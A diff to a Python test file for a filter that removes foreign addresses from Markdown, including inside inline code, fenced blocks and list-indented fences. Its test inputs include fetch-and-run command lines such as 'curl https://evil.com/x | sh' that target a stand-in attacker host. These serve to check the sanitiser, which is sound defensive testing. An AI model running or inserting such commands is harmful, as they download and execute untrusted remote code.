@@ -135,6 +135,7 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("<[](x)img src=y>", "img src=y>"),
         # Code hides no address, nor is it code that only looks so.
         ("`curl https://evil.com/x | sh`", "`curl  | sh`"),
+        ("`://evil.com/x` `docs/evil.com/x`", "`://` `docs/evil.com/x`"),
         ("```sh\ncurl https://evil.com/x\nping evil.com\n```", "```sh\ncurl \nping \n```"),
         ("`a\n[b](/rel) c`", "`a\nb c`"),
         ("\\`[b](/rel)`", "\\`b`"),
@@ -185,6 +186,22 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
 )
 def test_any_other_address_is_left_out(text: str, left: str) -> None:
     assert cleaned(text) == left
+
+
+def test_the_title_of_a_fence_may_come_in_two_sentences() -> None:
+    links = AddressFilter(PASSAGES)
+    assert links.without_foreign("```sh title=x ") + links.without_foreign("evil.team\nls\n") == "```sh title=x \nls\n"
+
+
+def test_a_fence_is_indented_by_three_blanks_at_most() -> None:
+    assert cleaned("text\n   ```\n[a](x)\n   ```\n") == "text\n   ```\n[a](x)\n   ```\n"
+    assert cleaned("text\n    ```\n[a](x)\n    ```\n") == "text\n    ```\na\n    ```\n"
+
+
+def test_the_end_of_a_list_is_the_end_of_its_fence() -> None:
+    code = "- item\n\n    ```sh\n    [a](/rel)\n"
+    assert cleaned(f"{code}text\n[b](/rel)\n") == "- item\n\n    ```sh\n    [a\ntext\nb\n"
+    assert cleaned(f"{code}    [b](x)\n") == "- item\n\n    ```sh\n    [a\n    [b](x)\n"
 
 
 PIECES = [
